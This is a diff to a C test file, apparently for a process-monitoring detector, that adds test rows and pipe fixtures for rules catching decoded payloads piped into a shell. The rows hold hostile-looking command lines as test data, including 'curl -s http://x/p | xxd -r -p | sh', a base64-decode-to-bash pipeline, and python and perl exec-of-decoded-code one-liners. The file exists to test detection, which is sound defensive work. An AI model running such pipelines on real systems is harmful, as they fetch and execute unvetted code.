@@ -34,6 +34,8 @@ enum special {
 	SP_CHILD, /* ... names a child of the test process */
 	SP_NSPARENT, /* setns: the caller's parent is in another (uts) namespace */
 	SP_HOSTPARENT, /* setns: ... in the host's */
+	SP_PIPE_SH,  /* the process's stdout is a pipe read by sh (no script: code from stdin) */
+	SP_PIPE_CAT, /* ... read by cat */
 };
 
 struct row {
@@ -375,6 +377,36 @@ static const struct row rows[] = {
 	  { FOP("/usr/bin/cat", "/home/u/.config/google-chrome/Default/Bookmarks", R) },
 	  .why = "bookmarks exported" },
 
+	{ "decoded-payload-to-shell", true,
+	  { EXEC("/usr/bin/base64", "base64\t-d") }, SP_PIPE_SH, "base64 -d | sh" },
+	{ "decoded-payload-to-shell", false,
+	  { EXEC("/usr/bin/base64", "base64\t-d") }, SP_PIPE_CAT, "base64 -d | cat" },
+	{ "decoded-payload-to-shell", false,
+	  { EXEC("/usr/bin/base64", "base64\t-w0") }, SP_PIPE_SH, "encoding, not decoding" },
+
+	{ "decode-pipeline-to-shell", true,
+	  { EXEC("/usr/bin/base64", "base64\t--decode"),
+	    PARENT("/usr/bin/bash", "bash\t-c\techo aWQK | base64 --decode | bash") }, .why = "echo | base64 --decode | bash" },
+	{ "decode-pipeline-to-shell", true,
+	  { EXEC("/usr/bin/xxd", "xxd\t-r\t-p"),
+	    PARENT("/usr/bin/dash", "sh\t-c\tcurl -s http://x/p | xxd -r -p | sh 2>&1") }, .why = "xxd -r -p | sh" },
+	{ "decode-pipeline-to-shell", false,
+	  { EXEC("/usr/bin/base64", "base64\t-d\tkey.b64"),
+	    PARENT("/usr/bin/dash", "sh\t-c\tbase64 -d key.b64 > key && sh ./install.sh") }, .why = "decode to a file, then a script" },
+	{ "decode-pipeline-to-shell", false,
+	  { EXEC("/usr/bin/base64", "base64\t-d"),
+	    PARENT("/usr/bin/dash", "sh\t-c\tbase64 -d < a.b64 | sh -c 'cat > a'") }, .why = "decoded into a shell running its own command" },
+
+	{ "inline-decoded-code-exec", true,
+	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport base64;exec(base64.b64decode('cHJpbnQoMSk='))") },
+	  .why = "python exec(b64decode(...))" },
+	{ "inline-decoded-code-exec", true,
+	  { EXEC("/usr/bin/perl", "perl\t-MMIME::Base64\t-e\teval(decode_base64('cHJpbnQgMQ=='))") },
+	  .why = "perl eval(decode_base64(...))" },
+	{ "inline-decoded-code-exec", false,
+	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport base64,sys;print(base64.b64decode(sys.argv[1]))") },
+	  .why = "decoding data to print it" },
+
 	{ "core-pattern-write", true,
 	  { FOP("/usr/bin/dash", "/proc/sys/kernel/core_pattern", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "|/tmp/x" },
 	{ "core-pattern-write", false,
@@ -661,6 +693,28 @@ static const struct row rows[] = {
 static struct vg_rules *defaults;
 static struct vg_rule_tables tables;
 static pid_t child, inet_child, unix_child, ns_child;
+static pid_t pipe_sh[2], pipe_cat[2]; /* [0] writer (pauses), [1] reader */
+static pid_t spawn(int fd);
+
+/* A writer whose stdout is a pipe, and a reader exec'ing prog with that pipe as stdin. */
+static void pipe_pair(pid_t out[2], const char *prog)
+{
+	int p[2];
+
+	if (pipe(p))
+		return;
+	out[1] = fork();
+	if (out[1] == 0) {
+		dup2(p[0], 0);
+		close(p[0]);
+		close(p[1]);
+		execl(prog, prog, (char *)NULL);
+		_exit(127);
+	}
+	out[0] = spawn(p[1]); /* stdin and stdout: the write end */
+	close(p[0]);
+	close(p[1]);
+}
 
 static pid_t spawn(int fd)
 {
@@ -697,6 +751,8 @@ static int setup(void **state)
 	    socketpair(AF_UNIX, SOCK_STREAM, 0, sp))
 		return -1;
 	child = spawn(-1);
+	pipe_pair(pipe_sh, "/bin/sh");
+	pipe_pair(pipe_cat, "/bin/cat");
 	ns_child = fork();
 	if (ns_child == 0) {
 		if (unshare(CLONE_NEWUTS))
@@ -716,9 +772,10 @@ static int setup(void **state)
 
 static int teardown(void **state)
 {
-	pid_t p[] = { child, inet_child, unix_child, ns_child };
+	pid_t p[] = { child, inet_child, unix_child, ns_child, pipe_sh[0], pipe_sh[1], pipe_cat[0],
+		      pipe_cat[1] };
 
-	for (int i = 0; i < 4; i++) {
+	for (int i = 0; i < 8; i++) {
 		kill(p[i], SIGKILL);
 		waitpid(p[i], NULL, 0);
 	}
@@ -741,6 +798,10 @@ static struct t_op row_op(const struct row *r, char *path, size_t len)
 		op.ppid = ns_child;
 	if (r->sp == SP_HOSTPARENT)
 		op.ppid = child;
+	if (r->sp == SP_PIPE_SH)
+		op.self_pid = pipe_sh[0];
+	if (r->sp == SP_PIPE_CAT)
+		op.self_pid = pipe_cat[0];
 	if (pid) {
 		const char *at = op.path ? strstr(op.path, "%d") : NULL;
 
